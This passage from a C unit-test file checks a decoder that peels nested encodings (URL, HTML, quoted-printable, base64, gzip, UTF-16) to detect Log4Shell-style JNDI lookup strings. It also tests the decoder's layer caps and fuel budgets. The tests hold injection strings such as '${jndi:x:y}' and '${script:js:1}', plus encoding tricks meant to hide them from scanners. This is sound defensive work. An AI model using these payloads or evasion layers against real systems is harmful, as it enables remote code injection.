            struct sbuf text = sbuf_with_cap(256);
            sbuf_add(&text, span_head(dollar, at));
            sbuf_add_str(&text, "=\r\n");
            sbuf_add(&text, span_from(dollar, at));
            sbuf_add_str(&text, "{jndi:x:y}");
            peel(sbuf_span(&text));
            if (result.lookup.class != LOOKUP_ATTACK) {
                printf("%.*s\n", (int)text.len, (const char *)text.data);
                CU_FAIL("not found");
            }
            sbuf_free(&text);
        }
    }
}

/* Bytes that are no text look like a soft line break, and like half an escape, every so often. */
static void what_is_folded_elsewhere_hides_nothing(void)
{
    CU_ASSERT_FALSE(peel_may_hide(SPAN("\xc4L=\n\xc3\xdf ab=\r\ncd ${x} e")));
    CU_ASSERT_FALSE(peel_may_hide(SPAN("\xa7/=\xc1\x86q and %\xc1\x86.")));
    CU_ASSERT(peel_may_hide(SPAN("\xa7/=\xc1\x86"
                                 "4")));
    CU_ASSERT(peel_may_hide(SPAN("$=\n{j=\nndi")));
}

static void layers_are_capped(void)
{
    struct sbuf text = sbuf_with_cap(4096);
    struct sbuf next = sbuf_with_cap(4096);
    sbuf_add_str(&text, "%24{jndi:x:y}");
    for (unsigned layers = 1; layers <= PEEL_LAYERS_MAX + 1; layers++) {
        peel(sbuf_span(&text));
        bool found = result.lookup.class == LOOKUP_ATTACK;
        CU_ASSERT_EQUAL(found, layers <= PEEL_LAYERS_MAX);
        CU_ASSERT(!found || result.encodings.n == layers);
        sbuf_reset(&next);
        sbuf_add_str(&next, "%25");
        sbuf_add(&next, span_from(sbuf_span(&text), 1));
        sbuf_reset(&text);
        sbuf_add(&text, sbuf_span(&next));
    }
    sbuf_free(&text);
    sbuf_free(&next);
}

/* Six layers that can each be undone first, over and over: more readings than there is room for. */
static void decoys_use_up_the_budget_and_it_says_so(void)
{
    struct sbuf text = sbuf_with_cap(4096);
    for (unsigned i = 0; i < 6; i++) {
        sbuf_add_str(&text, "%2525252525 &amp;amp;amp;amp;amp; \\\\\\\\\\\\\\\\u0031 =3D3D3D3D31 ");
    }
    sbuf_add_str(&text, "${ jndi :x:y}");
    peel(sbuf_span(&text));
    CU_ASSERT(result.lookup.over_budget);
    CU_ASSERT_EQUAL(result.lookup.class, LOOKUP_ATTEMPT);
    sbuf_free(&text);
}

static void fuel_is_shared_and_runs_out(void)
{
    uint64_t fuel = PEEL_FUEL;
    struct peel_hints hints = {.fuel = &fuel};
    peel_as(SPAN("%24%7Bjndi:x:y%7D"), hints);
    CU_ASSERT(fuel < PEEL_FUEL && result.lookup.class == LOOKUP_ATTACK);
    fuel = 20;
    peel_as(SPAN("%24%7Bjndi:x:y%7D"), hints);
    CU_ASSERT(result.lookup.over_budget);
    CU_ASSERT_EQUAL(fuel, 0);
}

static void add_many(struct sbuf *text, uint8_t c)
{
    for (unsigned i = 0; i < 4096; i++) {
        sbuf_add_byte(text, c);
    }
}

/* The fuel that a text takes in which `c` stands often, and an escape that is undone. */
static uint64_t fuel_for_many(uint8_t c)
{
    struct sbuf text = sbuf_with_cap(8192);
    uint64_t fuel = PEEL_FUEL;
    struct peel_hints hints = {.fuel = &fuel};
    add_many(&text, c);
    sbuf_add_str(&text, " \\u0024{jndi");
    peel_as(sbuf_span(&text), hints);
    sbuf_free(&text);
    return PEEL_FUEL - fuel;
}

static void what_may_begin_an_escape_costs_more(void)
{
    uint64_t plain = fuel_for_many(' ');
    CU_ASSERT(plain > 0);
    CU_ASSERT(fuel_for_many('&') > plain + UINT64_C(4096) * 10);
    CU_ASSERT(fuel_for_many('+') > plain + UINT64_C(4096) * 10);
    CU_ASSERT(fuel_for_many('=') > plain + UINT64_C(4096) * 10);
    CU_ASSERT(fuel_for_many('}') > plain);
}

static void a_name_far_behind_its_opener_is_seen(void)
{
    struct sbuf text = sbuf_with_cap(8192);
    sbuf_add_str(&text, "${");
    add_many(&text, 0);
    CU_ASSERT_FALSE(peel_may_hide(sbuf_span(&text)));
    sbuf_add_str(&text, "script:js:1}");
    CU_ASSERT(peel_may_hide(sbuf_span(&text)));
    sbuf_free(&text);
}

static void gate_patterns_are_found_in_what_they_are_for(void)
{
    CU_ASSERT(peel_gate_n_patterns() > 100);
    for (size_t i = 0; i < peel_gate_n_patterns(); i++) {
        CU_ASSERT(peel_gate_pattern(i).text.len > 2);
        CU_ASSERT_FALSE(peel_gate_pattern(i).literal);
    }
}

/* Empty blocks give nothing, and members of a stream little; what goes in is work all the same. */
static void what_is_inflated_is_charged(void)
{
    enum { N = 1000, BYTES = 15 }; /* three blocks */
    struct sbuf text = sbuf_with_cap(1 << 16);
    sbuf_add_str(&text, "H4sIAAAAAAAAAwAAAP//");
    for (unsigned n = 0; n < N; n++) {
        sbuf_add_str(&text, "AAAA//8AAAD//wAAAP//");
    }
    uint64_t fuel = PEEL_FUEL;
    struct peel_hints hints = {.fuel = &fuel};
    peel_as(sbuf_span(&text), hints);
    CU_ASSERT_FALSE(result.lookup.over_budget);
    CU_ASSERT(PEEL_FUEL - fuel > N * BYTES * 50);
    sbuf_free(&text);
}

static CU_TestInfo layer_tests[] = {
    {"what asks is not peeled", what_asks_is_not_peeled},
    {"layers that only a name shows", layers_that_only_a_name_shows},
    {"encoded words within other layers", encoded_words_within_other_layers},
    {"UTF-16 behind another text", utf16_behind_another_text},
    {"layers of escapes", layers_of_escapes},
    {"layers as a whole", layers_as_a_whole},
    {"base64, alone and in its place", base64_alone_and_in_its_place},
    {"base64 of gzip", base64_of_gzip},
    {"base64 of gzip, escaped", base64_of_gzip_escaped},
    {"base64, partly escaped", base64_partly_escaped},
    {"escapes of parts of escapes", escapes_of_parts_of_escapes},
    {"the outer layer is undone too", the_outer_layer_is_undone_too},
    {"layers in each other's way", layers_in_each_others_way},
    {"UTF-16 behind other bytes", utf16_behind_other_bytes},
    {"escapes within escaped UTF-16", escapes_within_escaped_utf16},
    {"UTF-16 in base64 is read once", utf16_in_base64_is_read_once},
    {"base64 over other layers", base64_over_other_layers},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo choice_tests[] = {
    {"values are read as their reader does", values_are_read_as_their_reader_does},
    {"values are also read as sent", values_are_also_read_as_sent},
    {"the best class is taken", the_best_class_is_taken},
    {"many hits are settled at once", many_hits_are_settled_at_once},
    {"harmless texts", harmless_texts},
    {"a line may be folded within an escape", a_line_may_be_folded_within_an_escape},
    {"what is folded elsewhere hides nothing", what_is_folded_elsewhere_hides_nothing},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo limit_tests[] = {
    {"layers are capped", layers_are_capped},
    {"decoys use up the budget and it says so", decoys_use_up_the_budget_and_it_says_so},
    {"fuel is shared and runs out", fuel_is_shared_and_runs_out},
    {"what is inflated is charged", what_is_inflated_is_charged},
    {"what may begin an escape costs more", what_may_begin_an_escape_costs_more},
    {"a name far behind its opener is seen", a_name_far_behind_its_opener_is_seen},
    {"gate patterns are there", gate_patterns_are_found_in_what_they_are_for},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"layers", start, end, NULL, NULL, layer_tests},
        {"choice", start, end, NULL, NULL, choice_tests},
        {"limits", start, end, NULL, NULL, limit_tests},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
